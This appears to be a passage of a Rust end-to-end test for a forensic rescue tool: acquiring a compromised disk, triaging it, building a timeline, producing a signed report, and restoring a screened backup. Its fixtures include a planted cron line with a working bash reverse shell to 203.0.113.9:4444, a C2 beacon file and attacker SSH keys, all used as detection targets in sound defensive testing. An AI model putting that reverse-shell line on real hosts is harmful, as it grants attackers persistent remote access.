//! The guided incident flow over the serial console (TERM=vt220, dialoguer prompts answered with the keys
//! a BMC serial line sends), end to end on one compromised server disk: open a case with the true time,
//! inventory, unlock and format the evidence disk, acquire and verify a 256 MiB "compromised" source disk
//! (GPT + ext4 with a planted cron backdoor and an auth.log), triage the acquisition (finds the backdoor),
//! build its timeline, clear the disk as a reinstall target, build the incident report signed with the
//! examiner's key (read from a third disk, passphrase typed without echo) and power off. On the host, with
//! other people's tools: `sha256sum -c` of the acquisition's SHA256SUMS, the image equals the source and
//! its manifest's hash; the chain verifies (and breaks after one edited byte); `mactime` over the body file
//! shows the planted file at its planted time; gpgv, `sha256sum -c` and `report verify` accept the report
//! and refuse it after one edited byte; report.json names the triage findings and the timeline; the
//! source is byte-identical.

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use tests::fixtures::{
    Signer, debugfs_dump, debugfs_rdump, ext4_from, mkfs_ext4, run_tool, sha256_hex, tree,
    write_file,
};
use tests::says;
use tests::{Bus, Disk, PROMPT, QemuBuilder, gate, sha256_file};

const T: Duration = Duration::from_secs(120);
const LONG: Duration = Duration::from_secs(1200);

/// A 256 MiB GPT disk whose one partition holds an ext4 filesystem with known files, made without root:
/// the filesystem is built in its own file with `mkfs.ext4 -d` and copied to the partition's offset.
fn make_compromised_disk(work: &Path) -> anyhow::Result<std::path::PathBuf> {
    let files = work.join("files");
    std::fs::create_dir_all(files.join("etc/cron.d"))?;
    std::fs::create_dir_all(files.join("var/log"))?;
    std::fs::create_dir_all(files.join("usr/bin"))?;
    std::fs::write(files.join("usr/bin/true"), b"\x7fELF true")?;
    std::fs::write(files.join(BACKDOOR), BACKDOOR_LINE)?;
    std::fs::write(
        files.join("etc/os-release"),
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
    )?;
    std::fs::write(files.join("var/log/auth.log"), AUTH_LOG)?;
    std::fs::write(
        files.join("notes.txt"),
        "known content for the guided test\n",
    )?;
    // The attacker's times, kept by `mkfs.ext4 -d`: the login, then the backdoor two minutes later.
    for (rel, when) in [
        ("var/log/auth.log", "2026-11-28 06:00:00 UTC"),
        (BACKDOOR, PLANT_TIME),
    ] {
        run_tool(
            Command::new("touch")
                .args(["-d", when])
                .arg(files.join(rel)),
        )?;
    }
    let part = work.join("part.img");
    run_tool(
        Command::new("mkfs.ext4")
            .args(["-q", "-F", "-L", "VICTIM", "-d"])
            .arg(&files)
            .arg(&part)
            .arg("200M"),
    )?;
    let disk = work.join("source.img");
    std::fs::File::create(&disk)?.set_len(256 << 20)?;
    run_tool(
        Command::new("sgdisk")
            .args(["-n", "1:2048:+200M", "-t", "1:8300", "-c", "1:root"])
            .arg(&disk),
    )?;
    let bytes = std::fs::read(&part)?;
    use std::io::{Seek, SeekFrom, Write};
    let mut f = std::fs::OpenOptions::new().write(true).open(&disk)?;
    f.seek(SeekFrom::Start(2048 * 512))?;
    f.write_all(&bytes)?;
    f.sync_all()?;
    Ok(disk)
}

/// The planted persistence on the compromised server's root (relative to it).
const BACKDOOR: &str = "etc/cron.d/backdoor";
const BACKDOOR_LINE: &str =
    "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n";
/// When the backdoor was planted (its mtime); `mactime -y -z UTC` prints it as below.
const PLANT_TIME: &str = "2026-11-28 02:17:43 UTC";
const PLANT_MACTIME: &str = "2026-11-28T02:17:43Z";
/// The attacker's login, two minutes before the backdoor (no year: inferred from the file's mtime).
const AUTH_LOG: &str = "Nov 28 02:15:02 victim sshd[812]: Accepted password for root from 203.0.113.9 port 51234 ssh2\n";

#[test]
fn guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk() -> anyhow::Result<()> {
    let Some(art) = gate("guided_flow_over_serial_acquires_onto_a_formatted_evidence_disk") else {
        return Ok(());
    };
    let work = tempfile::tempdir()?;
    let source = make_compromised_disk(work.path())?;
    let source_sha = sha256_file(&source)?;
    let evidence = work.path().join("evidence.img");
    std::fs::File::create(&evidence)?.set_len(512 << 20)?;

    let mut src = Disk::new(&source, Bus::Virtio);
    src.serial = Some("VICTIM-01".into());
    let mut ev = Disk::new(&evidence, Bus::Virtio);
    ev.serial = Some("USBEVIDENCE-77".into());
    // The examiner's key on a stick of its own: a passphrase-protected secret key, never on the evidence.
    let signer = Signer::new("Examiner <examiner@example.org>")?;
    signer.gpg(&[
        "--passphrase",
        PASSPHRASE,
        "--quick-gen-key",
        "Report Signer <report@example.org>",
        "ed25519",
        "sign",
        "never",
    ])?;
    let key_dir = work.path().join("key");
    std::fs::create_dir_all(&key_dir)?;
    let secret = signer.gpg(&[
        "--passphrase",
        PASSPHRASE,
        "--armor",
        "--export-secret-keys",
        "report@example.org",
    ])?;
    std::fs::write(key_dir.join("examiner.asc"), &secret)?;
    let public = work.path().join("examiner.pub");
    signer.gpg(&[
        "--output",
        public.to_str().unwrap_or_default(),
        "--export",
        "report@example.org",
    ])?;
    let key_disk = work.path().join("key.img");
    ext4_from(&key_dir, &key_disk, 8, "KEY")?;
    let mut kd = Disk::new(&key_disk, Bus::Virtio);
    kd.serial = Some("KEYSTICK-1".into());
    let mut vm = QemuBuilder::direct(&art, work.path())
        .disk(src)
        .disk(ev)
        .disk(kd)
        .spawn()?;
    let boot = vm.wait_prompt(T)?;
    vm.check(
        says(&boot, "guided mode") && says(&boot, "next> 1  Case"),
        &format!("the guided menu is in front of the prompt at boot:\n{boot}"),
    )?;

    // Step 1: the case, with the operator's true time (the machine's clock is taken as wrong).
    vm.send_line("1")?;
    vm.expect("Case id", T)?;
    vm.send_line("CASE-G")?;
    vm.expect("Examiner", T)?;
    vm.send_line("tester")?;
    vm.expect("Notes (optional)", T)?;
    vm.send_line("")?;
    vm.expect("True UTC time now", T)?;
    vm.send_line("2030-01-01 00:00:00")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(
        says(&out, "case CASE-G opened") && says(&out, "clock offset +"),
        &format!("case opened with a clock offset:\n{out}"),
    )?;
    vm.check(
        says(&out, "next> 2"),
        &format!("the menu moves on to the next step:\n{out}"),
    )?;

    // Step 2: inventory.
    vm.send_line("2")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(
        out.contains("saved") && out.contains("VICTIM-01"),
        &format!("inventory:\n{out}"),
    )?;

    // Step 3: the evidence disk: a wrong serial first, then the right one, then format ext4.
    vm.send_line("3")?;
    vm.expect("Evidence destination disk", T)?;
    // vda (the source) is listed first; `j` moves down (arrow keys may arrive split on a serial line).
    vm.send_raw(b"j\r")?;
    vm.expect("to make it writable", T)?;
    vm.send_line("000000")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(
        says(&out, "has serial USBEVIDENCE-77") && says(&out, "stays write-blocked"),
        &format!("a wrong serial leaves the disk locked:\n{out}"),
    )?;
    vm.send_line("3")?;
    vm.expect("Evidence destination disk", T)?;
    vm.send_raw(b"j\r")?;
    vm.expect("to make it writable", T)?;
    vm.send_line("ENCE-77")?;
    let out = vm.expect("What to do with it", T)?;
    vm.check(
        says(&out, "unlocked for writing: vdb"),
        &format!("unlocked with the last 6 characters of its serial:\n{out}"),
    )?;
    vm.send_raw(b"j\r")?;
    vm.expect("Type its serial", T)?;
    vm.send_line("USBEVIDENCE-77")?;
    let out = vm.expect(PROMPT, Duration::from_secs(300))?;
    vm.check(
        says(&out, "empty ext4 filesystem") && says(&out, "mounted on /mnt/evidence"),
        &format!("evidence disk formatted and mounted:\n{out}"),
    )?;

    // Step 4: acquire the source and verify it.
    vm.send_line("4")?;
    vm.expect("Disks to acquire", T)?;
    vm.send_raw(b" \r")?;
    vm.expect("Evidence id for /dev/vda", T)?;
    vm.send_line("")?;
    let out = vm.expect(PROMPT, LONG)?;
    vm.check(
        says(&out, "/dev/vda: acquired and verified"),
        &format!("acquired and verified:\n{out}"),
    )?;

    // Step 5: triage of the acquisition (listed first, before the source disk itself).
    vm.send_line("5")?;
    vm.expect("Triage of", T)?;
    vm.expect("acquisition /mnt/evidence/CASE-G/vda of vda, verified", T)?;
    vm.send_raw(b"\r")?;
    vm.expect("Start of the attack window", T)?;
    vm.send_line("")?;
    let out = vm.expect(PROMPT, LONG)?;
    vm.check(
        out.contains(
            "[guided] triage /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/triage-vda",
        ) && out.contains(&format!("/{BACKDOOR}"))
            && says(&out, "findings recorded in the case"),
        &format!("the guided triage shows the planted backdoor and records it:\n{out}"),
    )?;

    // Step 6: the timeline of the same acquisition, the logs read as UTC.
    vm.send_line("6")?;
    vm.expect("Timeline of", T)?;
    vm.expect("acquisition /mnt/evidence/CASE-G/vda of vda, verified", T)?;
    vm.send_raw(b"\r")?;
    vm.expect("Zone of the logs", T)?;
    vm.send_line("UTC")?;
    vm.expect("From (", T)?;
    vm.send_line("")?;
    vm.expect("To (", T)?;
    vm.send_line("")?;
    let out = vm.expect(PROMPT, LONG)?;
    vm.check(
        says(
            &out,
            "timeline written to /mnt/evidence/CASE-G/timeline-vda",
        ),
        &format!("the guided timeline is written into the case:\n{out}"),
    )?;

    // Step 7: the verified source may be a reinstall target; the evidence disk never.
    vm.send_line("7")?;
    vm.expect("Disk to reinstall", T)?;
    vm.send_raw(b"\r")?;
    let out = vm.expect("Reinstall how", T)?;
    vm.check(
        says(&out, "/dev/vda is cleared as the reinstall target"),
        &format!("verified disk cleared:\n{out}"),
    )?;
    // Deploy, kexec an installer, or nothing now: leave it.
    let out = vm.expect("Nothing now", T)?;
    vm.check(
        out.contains("deploy") && out.contains("kexec"),
        &format!("the reinstall step offers deploy and kexec:\n{out}"),
    )?;
    vm.send_raw(b"jj\r")?;
    vm.expect(PROMPT, T)?;
    vm.send_line("7")?;
    vm.expect("Disk to reinstall", T)?;
    vm.send_raw(b"j\r")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(
        says(&out, "evidence destination of this case") && !says(&out, "Reason to overwrite"),
        &format!("the evidence disk is refused without asking for a reason:\n{out}"),
    )?;

    // Step 9: the signed report (the key from the third disk, vdc), chain check, power off.
    vm.send_line("9")?;
    vm.expect("Build the incident report now", T)?;
    vm.send_raw(b"y")?;
    vm.expect("Sign it with your OpenPGP secret key", T)?;
    vm.send_raw(b"y")?;
    let out = vm.expect("Disk or stick holding the key", T)?;
    vm.check(
        !out.contains("vdb"),
        &format!("the evidence disk is not offered for the key:\n{out}"),
    )?;
    // No medium, vda1 (the source's partition), vdc (the key stick).
    vm.send_raw(b"jj\r")?;
    vm.expect("Secret key file", T)?;
    vm.send_line("examiner.asc")?;
    vm.expect("Passphrase of the signing key", T)?;
    vm.send_line(PASSPHRASE)?;
    let out = vm.expect("Power off now", LONG)?;
    vm.check(
        says(&out, "signed by")
            && says(
                &out,
                "report of case CASE-G written to /mnt/evidence/CASE-G/report",
            ),
        &format!("the report is built and signed:\n{out}"),
    )?;
    vm.check(
        !vm.log().contains(PASSPHRASE),
        "the passphrase is never echoed on the console",
    )?;
    vm.send_raw(b"y")?;
    let status = vm.wait_exit(Duration::from_secs(120))?;
    vm.check(status.success(), "clean power-off")?;
    let log = vm.log();
    vm.check(
        says(&log, "chain intact"),
        "the report verified the case log's chain",
    )?;
    vm.check(
        log.is_ascii(),
        "every byte sent to the serial console is ASCII",
    )?;

    // On the host.
    assert_eq!(sha256_file(&source)?, source_sha, "the source disk changed");
    let dir = "/CASE-G/vda";
    let image = work.path().join("image.raw");
    debugfs_dump(&evidence, &format!("{dir}/image.raw"), &image)?;
    assert_eq!(sha256_file(&image)?, source_sha, "image == source");
    let manifest = work.path().join("manifest.json");
    debugfs_dump(&evidence, &format!("{dir}/manifest.json"), &manifest)?;
    let m: serde_json::Value = serde_json::from_slice(&std::fs::read(&manifest)?)?;
    assert_eq!(m["case"]["case_id"], "CASE-G");
    assert_eq!(m["case"]["evidence_id"], "vda");
    assert_eq!(m["case"]["examiner"], "tester");
    assert!(
        m["case"]["clock_offset_seconds"]
            .as_i64()
            .is_some_and(|o| o > 0),
        "the clock offset is in the manifest: {}",
        m["case"]
    );
    assert_eq!(m["hashes"]["sha256"], source_sha.as_str());
    let sums = work.path().join("SHA256SUMS");
    debugfs_dump(&evidence, &format!("{dir}/SHA256SUMS"), &sums)?;
    assert!(
        std::fs::read_to_string(&sums)?.contains("image.raw"),
        "SHA256SUMS lists the image"
    );
    let inventory = work.path().join("inventory.json");
    debugfs_dump(&evidence, "/CASE-G/inventory.json", &inventory)?;
    let case_log = work.path().join("case-log.jsonl");
    debugfs_dump(&evidence, "/CASE-G/case-log.jsonl", &case_log)?;
    let bytes = std::fs::read(&case_log)?;
    let entries =
        rescue::caselog::verify(&bytes).map_err(|e| anyhow::anyhow!("case log chain: {e}"))?;
    let commands: Vec<&str> = entries.iter().map(|e| e.command.as_str()).collect();
    for want in [
        "guided step 1",
        "unlock /dev/vdb --confirm 000000",
        "format /dev/vdb --fs ext4",
        "mount-evidence /dev/vdb",
        "verify /mnt/evidence/CASE-G/vda",
        "triage /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/triage-vda",
        "timeline /mnt/evidence/CASE-G/vda --out /mnt/evidence/CASE-G/timeline-vda --tz UTC",
        "case target /dev/vda",
        "report --format md,json,html --sign-key examiner.asc --media /dev/vdc",
        "poweroff",
    ] {
        assert!(
            commands.iter().any(|c| c.starts_with(want)),
            "the case log records {want:?}: {commands:?}"
        );
    }
    assert!(
        entries.iter().any(|e| e.detail["clock_offset_seconds"]
            .as_i64()
            .is_some_and(|o| o > 0)),
        "the clock offset is in the case log"
    );
    check_signed_report(&evidence, work.path(), &public, &source_sha)?;
    check_acquisition_and_timeline(&work.path().join("evidence-tree/CASE-G"), &source_sha)?;
    let mut edited = bytes.clone();
    let at = edited.windows(6).position(|w| w == b"CASE-G").unwrap_or(0);
    edited[at + 5] = b'H';
    assert!(
        rescue::caselog::verify(&edited).is_err(),
        "one edited byte breaks the chain"
    );
    Ok(())
}

/// The attacker's file in the restore scenario: beneath a hidden directory triage reports.
const PLANTED: &str = "srv/data/.sync/agent.conf";

/// The examiner's passphrase in the guided scenario: it must never show on the console.
const PASSPHRASE: &str = "Correct-Horse-42";

/// gpgv's verdict on one detached signature.
fn gpgv(keyring: &Path, sig: &Path, data: &Path) -> anyhow::Result<bool> {
    let home = tempfile::tempdir()?;
    let o = Command::new("gpgv")
        .env("GNUPGHOME", home.path())
        .arg("--keyring")
        .arg(keyring)
        .arg(sig)
        .arg(data)
        .output()?;
    Ok(o.status.success())
}

fn sha256sum_c(dir: &Path) -> anyhow::Result<bool> {
    let o = Command::new("sha256sum")
        .args(["-c", "--quiet", "evidence.sha256"])
        .current_dir(dir)
        .output()?;
    Ok(o.status.success())
}

/// The report on the evidence disk: every signature good for gpgv, the index good for `sha256sum -c`
/// and `report verify`; one edited byte of the report fails all three; no secret key on the disk.
fn check_signed_report(
    evidence: &Path,
    work: &Path,
    public: &Path,
    source_sha: &str,
) -> anyhow::Result<()> {
    let tree = work.join("evidence-tree");
    debugfs_rdump(evidence, &tree)?;
    let dir = tree.join("CASE-G/report");
    for f in [
        "case-log.jsonl",
        "report.md",
        "report.json",
        "report.html",
        "evidence.sha256",
    ] {
        assert!(
            gpgv(public, &dir.join(format!("{f}.asc")), &dir.join(f))?,
            "gpgv refuses the signature over {f}"
        );
    }
    assert!(sha256sum_c(&dir)?, "sha256sum -c evidence.sha256 fails");
    let r: serde_json::Value = serde_json::from_slice(&std::fs::read(dir.join("report.json"))?)?;
    assert_eq!(r["case"]["case_id"], "CASE-G");
    assert!(
        r["case"]["clock_offset_seconds"]
            .as_i64()
            .is_some_and(|o| o > 0)
    );
    assert_eq!(
        r["scope"]["acquisitions"][0]["verification"], "verified",
        "{}",
        r["scope"]
    );
    assert_eq!(
        r["scope"]["acquisitions"][0]["hashes"]["sha256"],
        source_sha
    );
    assert!(
        r["evidence"].as_array().is_some_and(|e| e
            .iter()
            .any(|f| f["path"] == "vda/image.raw" && f["sha256"] == source_sha)),
        "the evidence list holds the image with the source's hash"
    );
    let now = chrono::Utc::now();
    let v = rescue::report::verify::verify_dir(&dir, &[public.to_owned()], now)?;
    assert!(v.signed && v.failed().is_empty(), "{:?}", v.failed());
    for e in walk(&tree.join("CASE-G"))? {
        let b = std::fs::read(&e)?;
        assert!(
            !b.windows(15).any(|w| w == b"PRIVATE KEY BLO"),
            "{} holds a secret key",
            e.display()
        );
    }
    let md = dir.join("report.md");
    let mut b = std::fs::read(&md)?;
    b[20] ^= 0x20;
    std::fs::write(&md, b)?;
    assert!(
        !gpgv(public, &dir.join("report.md.asc"), &md)?,
        "gpgv accepts an edited report"
    );
    assert!(!sha256sum_c(&dir)?, "sha256sum -c accepts an edited report");
    let v = rescue::report::verify::verify_dir(&dir, &[public.to_owned()], now)?;
    assert!(
        v.failed().iter().any(|c| c.file == "report.md")
            && v.failed().iter().any(|c| c.file == "report.md.asc"),
        "{:?}",
        v.failed()
    );
    Ok(())
}

/// The acquisition and the timeline on the evidence disk, through other people's tools:
/// `sha256sum -c` of the acquisition's SHA256SUMS (its image hash also the manifest's and the source's),
/// and Sleuth Kit's `mactime` over the body file shows the planted backdoor at its planted time; the
/// Timesketch JSONL holds the attacker's login and the triage's finding.
fn check_acquisition_and_timeline(case: &Path, source_sha: &str) -> anyhow::Result<()> {
    let acq = case.join("vda");
    let o = Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&acq)
        .output()?;
    let said = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success() && says(&said, "image.raw: OK"),
        "sha256sum -c SHA256SUMS of the acquisition: {said}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let sums = std::fs::read_to_string(acq.join("SHA256SUMS"))?;
    assert!(
        sums.lines()
            .any(|l| l.starts_with(source_sha) && l.ends_with("image.raw")),
        "SHA256SUMS holds the source's hash for image.raw: {sums}"
    );

    let tl = case.join("timeline-vda");
    let body = tl.join("bodyfile.txt");
    let o = Command::new("mactime")
        .args(["-b"])
        .arg(&body)
        .args(["-d", "-y", "-z", "UTC"])
        .output()?;
    let rows = String::from_utf8_lossy(&o.stdout);
    assert!(
        o.status.success() && o.stderr.is_empty(),
        "mactime reads the body file without complaint: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    // `-d`: Date,Size,Type,Mode,UID,GID,Meta,File Name; the planted file's mtime row.
    assert!(
        rows.lines().any(|l| l.starts_with(PLANT_MACTIME)
            && l.split(',').nth(2).is_some_and(|t| t.starts_with('m'))
            && l.ends_with(&format!(",\"/{BACKDOOR}\""))),
        "mactime shows the backdoor modified at {PLANT_MACTIME}:\n{rows}"
    );
    let jsonl = std::fs::read_to_string(tl.join("timeline.jsonl"))?;
    let events: Vec<serde_json::Value> = jsonl
        .lines()
        .map(serde_json::from_str)
        .collect::<Result<_, _>>()?;
    assert!(
        events.iter().any(|e| e["datetime"]
            .as_str()
            .is_some_and(|d| d.starts_with("2026-11-28T02:15:02"))
            && e["message"]
                .as_str()
                .is_some_and(|m| m.contains("203.0.113.9"))),
        "the timeline holds the attacker's login from auth.log: {jsonl}"
    );
    let o = Command::new("sha256sum")
        .args(["-c", "--strict", "SHA256SUMS"])
        .current_dir(&tl)
        .output()?;
    assert!(
        o.status.success(),
        "sha256sum -c of the timeline's SHA256SUMS: {}",
        String::from_utf8_lossy(&o.stdout)
    );

    // The report names the triage's findings and the timeline, with the backdoor's times.
    let r: serde_json::Value =
        serde_json::from_slice(&std::fs::read(case.join("report/report.json"))?)?;
    let backdoor = format!("/{BACKDOOR}");
    let finding = r["findings"]["items"]
        .as_array()
        .and_then(|a| {
            a.iter()
                .find(|f| f["path"] == backdoor.as_str() && f["severity"] == "high")
        })
        .cloned()
        .unwrap_or_default();
    assert_eq!(
        finding["category"], "cron",
        "report.json lists the backdoor as a high cron finding: {}",
        r["findings"]
    );
    assert!(
        r["findings"]["files"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f == "triage-vda/findings.json")),
        "report.json names the triage's findings file: {}",
        r["findings"]["files"]
    );
    assert!(
        r["timeline"]["files"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f == "timeline-vda/timeline.jsonl"))
            && r["timeline"]["events"].as_u64().is_some_and(|n| n > 0),
        "report.json names the timeline: {}",
        r["timeline"]
    );
    assert!(
        finding["first_seen"]
            .as_str()
            .is_some_and(|t| t.starts_with("2026-11-28T02:17:43")),
        "the report gives the backdoor's first timeline event at its planted time: {finding}"
    );
    // The attacker's story starts with the root login the timeline flagged in auth.log, two minutes
    // before the backdoor, which the highlights list as persistence at its planted time.
    let t = &r["timeline"];
    let first = &t["first_attacker_activity"];
    assert!(
        first["datetime"]
            .as_str()
            .is_some_and(|d| d.starts_with("2026-11-28T02:15:02"))
            && first["suspicious"] == "root logged in over SSH",
        "the report's first attacker activity is the root login from auth.log: {first}"
    );
    assert!(
        t["persistence"]
            .as_array()
            .is_some_and(|p| p.iter().any(|p| {
                p["path"] == backdoor.as_str()
                    && p["first_seen"]
                        .as_str()
                        .is_some_and(|f| f.starts_with("2026-11-28T02:17:43"))
            })),
        "the report lists the backdoor as persistence with its time: {}",
        t["persistence"]
    );
    Ok(())
}

fn walk(dir: &Path) -> anyhow::Result<Vec<std::path::PathBuf>> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir)? {
        let p = e?.path();
        if p.is_dir() {
            out.extend(walk(&p)?);
        } else {
            out.push(p);
        }
    }
    Ok(out)
}

/// The close of an incident through the guided menu alone: step 5 triages the compromised server's disk
/// (its findings go into the case), steps 7 and 8 write a signed golden image
/// (read from a media disk, verified against a GnuPG-signed SHA256SUMS and the signer's key on that disk)
/// onto the compromised server's disk, then restore a screened backup onto the freshly deployed root;
/// the restore holds the attacker's hidden directory the triage found, without `--findings`.
/// On the host the server's disk holds the golden files plus exactly the good backup files, the
/// restore manifest on the evidence disk names every refusal, and the case log records both commands
/// with the operator's reasons.
#[test]
fn guided_reinstall_and_restore_rebuild_the_server_from_a_signed_image_and_a_screened_backup()
-> anyhow::Result<()> {
    let Some(art) = gate(
        "guided_reinstall_and_restore_rebuild_the_server_from_a_signed_image_and_a_screened_backup",
    ) else {
        return Ok(());
    };
    let work = tempfile::tempdir()?;
    let w = work.path();

    // The golden image: an ext4 root with a marker file, signed on a media disk with the signer's key.
    let golden_root = w.join("golden-root");
    write_file(
        &golden_root,
        "etc/golden-release",
        b"golden build 12.7\n",
        0o644,
    )?;
    write_file(
        &golden_root,
        "usr/bin/app",
        b"\x7fELF app from the golden image",
        0o755,
    )?;
    let media_dir = w.join("media");
    std::fs::create_dir_all(&media_dir)?;
    let golden = media_dir.join("golden.img");
    mkfs_ext4(&golden, 40, Some(&golden_root))?;
    let golden_sha = sha256_file(&golden)?;
    let signer = Signer::new("Golden image builder <golden@example.org>")?;
    signer.sign_sums(&media_dir, &["golden.img"])?;
    let media = w.join("media.img");
    ext4_from(&media_dir, &media, 16, "MEDIA")?;

    // The backup: good files, one rotted since its SHA256SUMS was written, a setuid binary, a
    // blocklisted implant and an attacker's authorized_keys. Its list and the IOCs are on the
    // examiner's evidence disk.
    let backup_dir = w.join("backup");
    let good: [(&str, &[u8], u32); 2] = [
        ("srv/data/report.txt", b"quarterly numbers\n", 0o640),
        ("home/alice/notes.md", b"# notes\n", 0o600),
    ];
    for (rel, data, mode) in good {
        write_file(&backup_dir, rel, data, mode)?;
    }
    write_file(&backup_dir, "srv/data/orders.db", b"rotted bytes", 0o644)?;
    write_file(
        &backup_dir,
        "usr/local/bin/helper",
        b"\x7fELF helper",
        0o4755,
    )?;
    write_file(
        &backup_dir,
        "srv/data/implant.so",
        b"attacker library",
        0o644,
    )?;
    write_file(
        &backup_dir,
        "root/.ssh/authorized_keys",
        b"ssh-ed25519 AAAA attacker@evil",
        0o600,
    )?;
    // The attacker's hidden directory: in the backup (listed in its SHA256SUMS, nothing else holds it)
    // and on the compromised server, where triage finds it.
    write_file(&backup_dir, PLANTED, b"beacon https://c2.example\n", 0o644)?;
    let mut sums = String::new();
    for (rel, data) in [
        ("srv/data/report.txt", &b"quarterly numbers\n"[..]),
        ("home/alice/notes.md", b"# notes\n"),
        ("srv/data/orders.db", b"original orders"),
        ("usr/local/bin/helper", b"\x7fELF helper"),
        ("srv/data/implant.so", b"attacker library"),
        (
            "root/.ssh/authorized_keys",
            b"ssh-ed25519 AAAA attacker@evil",
        ),
        (PLANTED, b"beacon https://c2.example\n"),
    ] {
        sums.push_str(&format!("{}  ./{rel}\n", sha256_hex(data)));
    }
    let backup = w.join("backup.img");
    mkfs_ext4(&backup, 32, Some(&backup_dir))?;
    let ev_dir = w.join("evidence-files");
    write_file(&ev_dir, "backup-SHA256SUMS", sums.as_bytes(), 0o644)?;
    write_file(
        &ev_dir,
        "iocs.txt",
        format!("{}  implant.so\n", sha256_hex(b"attacker library")).as_bytes(),
        0o644,
    )?;
    let evidence = w.join("evidence.img");
    ext4_from(&ev_dir, &evidence, 32, "EVIDENCE")?;
    // The compromised server's disk, about to be rebuilt: a small Linux root with the planted directory.
    let server_root = w.join("server-root");
    write_file(
        &server_root,
        "etc/os-release",
        b"PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
        0o644,
    )?;
    write_file(&server_root, "usr/bin/true", b"\x7fELF true", 0o755)?;
    write_file(&server_root, PLANTED, b"beacon https://c2.example\n", 0o644)?;
    let server = w.join("server.img");
    mkfs_ext4(&server, 64, Some(&server_root))?;

    let disk = |p: &Path, serial: &str| {
        let mut d = Disk::new(p, Bus::Virtio);
        d.serial = Some(serial.into());
        d
    };
    let mut vm = QemuBuilder::direct(&art, w)
        .disk(disk(&server, "VICTIM-01"))
        .disk(disk(&media, "MEDIA-2"))
        .disk(disk(&backup, "BACKUP-0001"))
        .disk(disk(&evidence, "EVIDENCE-0042"))
        .spawn()?;
    vm.wait_prompt(T)?;

    vm.send_line("1")?;
    vm.expect("Case id", T)?;
    vm.send_line("CASE-RR")?;
    vm.expect("Examiner", T)?;
    vm.send_line("tester")?;
    vm.expect("Notes (optional)", T)?;
    vm.send_line("")?;
    vm.expect("True UTC time now", T)?;
    vm.send_line("")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(says(&out, "case CASE-RR opened"), &out)?;

    // Step 3: the examiner's disk (vdd, fourth in the list) holds the IOC list and the backup's list.
    vm.send_line("3")?;
    vm.expect("Evidence destination disk", T)?;
    vm.send_raw(b"jjj\r")?;
    vm.expect("to make it writable", T)?;
    vm.send_line("EVIDENCE-0042")?;
    vm.expect("What to do with it", T)?;
    vm.send_raw(b"\r")?;
    let out = vm.expect(PROMPT, T)?;
    vm.check(
        says(&out, "mounted on /mnt/evidence"),
        &format!("the evidence disk is mounted:\n{out}"),
    )?;

    // Step 5: triage of the server's disk (vda, first in the list) into the case.
    vm.send_line("5")?;
    vm.expect("Triage of", T)?;
    vm.send_raw(b"\r")?;
    vm.expect("Start of the attack window", T)?;
    vm.send_line("")?;
    let out = vm.expect(PROMPT, LONG)?;
    vm.check(
        says(
            &out,
            "[guided] triage /dev/vda --out /mnt/evidence/CASE-RR/triage-vda",
        ) && out.contains("/srv/data/.sync")
            && says(&out, "findings recorded in the case"),
        &format!("the guided triage shows the planted directory and records it:\n{out}"),
    )?;

    // Step 7: reinstall vda (never acquired: a reason is asked for) by deploying the signed image.
    vm.send_line("7")?;
    vm.expect("Disk to reinstall", T)?;
    vm.send_raw(b"\r")?;
    vm.expect("Reason to overwrite it anyway", T)?;
    vm.send_line("rebuilt from the golden image after imaging offsite")?;
    let out = vm.expect("Reinstall how", T)?;
    vm.check(
        says(&out, "/dev/vda is cleared as the reinstall target"),
        &format!("cleared with a reason:\n{out}"),
    )?;
    vm.send_raw(b"\r")?;
    vm.expect("Disk or CD holding the image", T)?;
    // Offered: no medium, vdb (media), vdc (backup); never the target or the evidence disk.
    let menu = vm.expect("BACKUP-0001", T)?;
    vm.check(
        menu.contains("MEDIA-2") && !menu.contains("VICTIM-01") && !menu.contains("EVIDENCE-0042"),
        &format!("the medium list leaves out the target and the evidence disk:\n{menu}"),
    )?;
    vm.send_raw(b"j\r")?;
    vm.expect("Image file", T)?;
    vm.send_line("golden.img")?;
    vm.expect("Checksum list", T)?;
    vm.send_line("SHA256SUMS")?;
    vm.expect("Its detached signature", T)?;
    vm.send_line("SHA256SUMS.sign")?;
    vm.expect("public key file", T)?;
    vm.send_line("signer.asc")?;
    vm.expect("to overwrite it", T)?;
    vm.send_line("VICTIM-01")?;
    let out = vm.expect(PROMPT, Duration::from_secs(300))?;
    vm.check(
        out.contains(&format!("signed by {}", signer.fpr))
            && says(&out, "DEPLOYED and read back")
            && out.contains(&golden_sha),
        &format!("the signed image was deployed and read back:\n{out}"),
    )?;

    // Step 8: restore the backup disk onto the new root, dry run first, then for real.
    vm.send_line("8")?;
    vm.expect("Disk to restore", T)?;
    vm.send_raw(b"\r")?;
    vm.expect("Reason to overwrite it anyway", T)?;
    vm.send_line("business data onto the rebuilt root")?;
    vm.expect("Backup to restore from", T)?;
    vm.send_line("/dev/vdc")?;
    vm.expect("checksum list", T)?;
    vm.send_line("/mnt/evidence/backup-SHA256SUMS")?;
    vm.expect("Blocklist", T)?;
    vm.send_line("/mnt/evidence/iocs.txt")?;
    vm.expect("to write to it", T)?;
    vm.send_line("TIM-01")?;
    let out = vm.expect("Restore these files now", Duration::from_secs(300))?;
    vm.check(
        out.contains("--dry-run")
            && says(&out, "REFUSED   srv/data/orders.db: corrupted")
            && says(&out, "REFUSED   usr/local/bin/helper: setuid")
            && says(&out, "REFUSED   srv/data/implant.so: sha256")
            && says(&out, "HELD      root/.ssh/authorized_keys")
            && says(
                &out,
                "screening with the findings of this case's triage of /dev/vda",
            )
